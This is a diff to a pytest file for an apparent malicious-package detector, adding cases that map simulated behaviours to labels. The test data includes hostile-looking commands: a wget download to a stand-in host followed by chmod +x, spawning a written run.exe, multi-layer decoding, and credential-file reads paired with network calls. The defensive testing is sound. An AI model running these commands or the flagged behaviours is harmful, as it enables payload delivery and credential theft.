@@ -35,6 +35,13 @@ SECRET = fact(Kind.SECRET_READ, "~/.npmrc", 2, moment=CALL)
 LOGINS = fact(Kind.SECRET_READ, "~/x/Login Data", 2, moment=CALL)
 
 
+WRITE = fact(Kind.FS_WRITE, "/x/run.exe", moment=CALL)
+PROGRAM = fact(Kind.PROCESS_SPAWN, "start cmd.exe /c start /x/run.exe", 2, moment=CALL)
+SCRIPT = fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2, moment=CALL)
+UNPACKED = fact(Kind.PROCESS_SPAWN, "wget -q https://files.invalid/x -O y && chmod +x y", moment=CALL)
+LAYERED = fact(Kind.DECODE, "id", moment=CALL, via="base64>zlib>rot13>base64")
+
+
 @pytest.mark.parametrize(
     ("after", "expected"),
     [
@@ -50,6 +57,22 @@ LOGINS = fact(Kind.SECRET_READ, "~/x/Login Data", 2, moment=CALL)
         (called(NET, SECRET), ["secret-taken"]),
         (called(NET, LOGINS), ["browser-secrets"]),
         (called(NET, SECRET, path="test/index.js"), []),
+        (called(fact(Kind.NET_CONNECT, f"{HOOK[:-1]}{{}}", moment=CALL)), ["messenger"]),
+        (called(WRITE, PROGRAM, flow="data"), ["starts-program"]),
+        (called(WRITE, SCRIPT, flow="data"), []),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2), flow="data"), ["load-starts", "starts-program"]),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "cmd.exe /c dir", 2, moment=CALL), flow="data"), []),
+        (called(UNPACKED), ["starts-program"]),
+        (called(fact(Kind.PROCESS_SPAWN, "chmod +x /x/run", moment=CALL)), []),
+        (called(LAYERED, EVAL, flow="near"), ["executes-layers"]),
+        (called(LAYERED, EVAL, flow="near", path="docs/index.js"), []),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64")), ["address-encoded"]),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64>zlib")), []),
+        (called(fact(Kind.NET_CONNECT, "https://a.invalid", moment=CALL, via="xor")), ["address-encoded"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 -c 'import x'")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "pythonw deps.pyw")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 -m pip install x")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 --version")), ["load-starts"]),
         (
             called(fact(Kind.NET_CONNECT, "https://files.invalid/x"), fact(Kind.PROCESS_SPAWN, "/x/run", 2)),
             ["load-both"],
